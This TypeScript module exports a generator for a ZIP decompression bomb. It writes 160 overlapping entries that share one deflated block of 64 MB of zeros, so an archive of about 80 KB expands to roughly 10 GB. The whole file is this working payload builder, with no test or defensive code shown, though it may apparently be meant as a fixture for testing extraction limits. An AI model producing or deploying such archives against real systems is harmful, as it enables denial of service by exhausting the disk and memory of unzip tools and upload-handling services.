import { crc32, deflateRawSync } from 'node:zlib';

const entries = 160;
const unpacked = 64 * 1024 * 1024;

/** What each entry, and the place of its data, say alike. */
const factsOf = (packed: Buffer, crc: number, nameLength: number): Buffer => {
  const facts = Buffer.alloc(26);
  facts.writeUInt16LE(20, 0); // version
  facts.writeUInt16LE(8, 4); // deflated
  facts.writeUInt32LE(crc, 10);
  facts.writeUInt32LE(packed.length, 14);
  facts.writeUInt32LE(unpacked, 18);
  facts.writeUInt16LE(nameLength, 22);
  return facts;
};

/** A valid ZIP of some 80 KB whose entries share their data and are 10 GB together. */
export const zipBomb = (): Buffer => {
  const zeros = Buffer.alloc(unpacked);
  const packed = deflateRawSync(zeros, { level: 9 });
  const crc = crc32(zeros);
  const name = Buffer.from('f000');
  const local = Buffer.concat([Buffer.from('PK\x03\x04'), factsOf(packed, crc, name.length), name]);
  const directory = Buffer.concat(
    Array.from({ length: entries }, (_, place) =>
      Buffer.concat([
        Buffer.from('PK\x01\x02\x14\x00'),
        factsOf(packed, crc, name.length),
        Buffer.alloc(14), // no comment, and the data of the first
        Buffer.from(`f${String(place).padStart(3, '0')}`),
      ]),
    ),
  );
  const end = Buffer.alloc(22);
  end.write('PK\x05\x06', 'latin1');
  end.writeUInt16LE(entries, 8);
  end.writeUInt16LE(entries, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(local.length + packed.length, 16);
  return Buffer.concat([local, packed, directory, end]);
};
